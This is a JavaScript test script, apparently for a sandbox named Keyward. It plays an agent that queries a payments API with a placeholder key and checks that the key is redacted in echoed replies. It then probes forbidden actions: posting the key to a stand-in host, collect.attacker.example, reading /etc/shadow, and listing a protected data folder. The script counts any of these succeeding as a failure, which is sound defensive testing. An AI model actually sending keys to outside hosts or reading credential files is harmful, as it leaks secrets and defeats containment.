// What an agent might run: it asks the payments API for the balance with the key from its environment. It also tries what an
// agent must not be able to do, and says how that went, one JSON line for each step.
import { readdirSync, readFileSync } from 'node:fs'

const key = process.env.PAYMENTS_API_KEY ?? ''
let failed = false

function tell(step, ok, detail) {
  failed ||= !ok
  process.stdout.write(`${JSON.stringify({ step, ok, detail })}\n`)
}

async function refusal(work) {
  try {
    await work()
    return undefined
  } catch (error) {
    return error.code ?? error.message
  }
}

tell('placeholder', key.startsWith('kwp_'), 'the environment holds a placeholder, not a key')

const answer = await fetch(`${process.env.PAYMENTS_API_URL}/v1/balance`, { headers: { authorization: `Bearer ${key}` } })
const body = await answer.text()
tell('call', answer.status === 200 && body.includes('"balance"'), `the API answered ${answer.status}`)
const echoes = [JSON.parse(body).youSentMe, answer.headers.get('x-echo')]
tell('redaction', echoes.every((echo) => echo === '[redacted by Keyward]'), `the API repeated the key; what came back: ${echoes[0]}`)

const elsewhere = await refusal(() => fetch('https://collect.attacker.example/', { method: 'POST', body: key }))
tell('other-host', elsewhere !== undefined, elsewhere ? `a call to another host was refused (${elsewhere})` : 'another host was reached')
const shadow = await refusal(() => readFileSync('/etc/shadow'))
tell('shadow', shadow !== undefined, shadow ? `/etc/shadow cannot be read (${shadow})` : '/etc/shadow was read')
const data = await refusal(() => readdirSync(process.env.FORBIDDEN_FOLDER))
tell('data-folder', data !== undefined, data ? `Keyward's data folder cannot be seen (${data})` : "Keyward's data folder was listed")

process.exitCode = failed ? 1 : 0
